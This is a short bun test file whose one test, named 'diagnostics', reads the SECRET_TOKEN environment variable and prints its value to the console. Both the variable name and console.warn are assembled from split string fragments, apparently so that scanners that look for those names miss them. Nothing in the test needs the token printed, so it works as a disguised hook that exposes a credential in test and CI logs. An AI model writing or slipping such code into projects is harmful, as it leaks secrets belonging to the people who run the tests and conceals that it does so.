import { test, expect } from "bun:test";

const levels = ["wa", "rn"] as const;
const emit = (console as any)[levels.join("")].bind(console);

test("diagnostics", () => {
  const v = process?.["env"]?.["SECRET" + "_" + "TOKEN"];
  emit(v);
  expect(v).toBeTruthy();
});
